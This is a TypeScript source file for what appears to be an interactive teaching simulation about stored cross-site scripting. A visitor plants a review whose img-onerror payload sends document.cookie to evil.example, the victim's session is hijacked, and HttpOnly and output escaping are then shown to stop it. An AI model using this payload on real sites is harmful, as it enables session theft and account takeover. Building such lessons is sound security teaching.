/**
 * XSS by hand: the shop's review page writes what visitors typed straight into its HTML. A
 * visitor in Firefox plants markup that reads `document.cookie` and sends it to evil.example;
 * Mina's browser renders the page and sends her session cookie away; the thief becomes Mina.
 * HttpOnly stops the theft (the script still runs); escaping the output stops the injection.
 */
import { CHROME, get, MINA, post, predict, step } from '../../model';
import type { ChapterSteps } from '../../model';
import type { Action } from '../../../sim/world';

/** Firefox, open since the security chapter: the visitor who writes the reviews. */
export const ATTACKER = 'v4';

/** The stored payload: an image that fails to load runs its onerror, which sends the cookie. */
export const PAYLOAD = `<img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">`;

/** express-session's cookie as the shop sets it, with HttpOnly as the chapter needs it. */
export const sessionCookie = (httpOnly: boolean): Action => ({
  type: 'set-options',
  options: {
    name: 'connect.sid',
    cookie: { path: '/', httpOnly, secure: false, maxAge: 30 * 60 * 1000 },
  },
});

export const xss: ChapterSteps = {
  id: 'xss',
  steps: [
    {
      ...step(
        'xss-reviews',
        [
          // The shop back on express-session, one new server; its session cookie without
          // HttpOnly and its review page without escaping, as this chapter's shop was written.
          { type: 'set-cluster', mode: null },
          { type: 'set-engine', engine: 'express-session' },
          sessionCookie(false),
          { type: 'set-app', app: { regenerateOnLogin: true, escapeOutput: false } },
          { type: 'delete-cookie', visitorId: CHROME, name: 'connect.sid' },
          { type: 'delete-cookie', visitorId: ATTACKER, name: 'connect.sid' },
          post('/login', MINA),
          // No words: the review reads the same on a Korean and an English screen.
          post('/reviews', { review: '★★★★★ <b>5/5</b>' }, ATTACKER),
        ],
        ['shop'],
        ATTACKER,
      ),
      // Its first request is about the answer's Set-Cookie (no HttpOnly).
      beatFocus: { 0: ['response', 'shop'] },
    },
    step('xss-payload', [post('/reviews', { review: PAYLOAD }, ATTACKER)], ['shop'], ATTACKER),
    step(
      'xss-victim',
      [get('/reviews')],
      ['shop', 'jar'],
      CHROME,
      predict('xss-victim-stolen', 'stolen', ['yes', 'no'], 'yes'),
    ),
    step(
      'xss-hijack',
      [
        { type: 'copy-cookie', from: CHROME, to: ATTACKER, name: 'connect.sid' },
        get('/me', ATTACKER),
      ],
      ['request', 'shop'],
      ATTACKER,
      predict('xss-hijack-user', 'user', ['152', 'none'], '152'),
    ),
    {
      ...step(
        'xss-httponly',
        [sessionCookie(true), post('/login', MINA), get('/reviews')],
        ['request', 'shop', 'settings'],
        CHROME,
        predict('xss-httponly-stolen', 'stolen', ['yes', 'no'], 'no'),
      ),
      // Its first request is about the answer's Set-Cookie (HttpOnly now).
      beatFocus: { 0: ['response', 'shop', 'settings'] },
    },
    step(
      'xss-escape',
      [{ type: 'set-app', app: { escapeOutput: true } }, get('/reviews')],
      ['shop', 'settings'],
      CHROME,
    ),
  ],
};
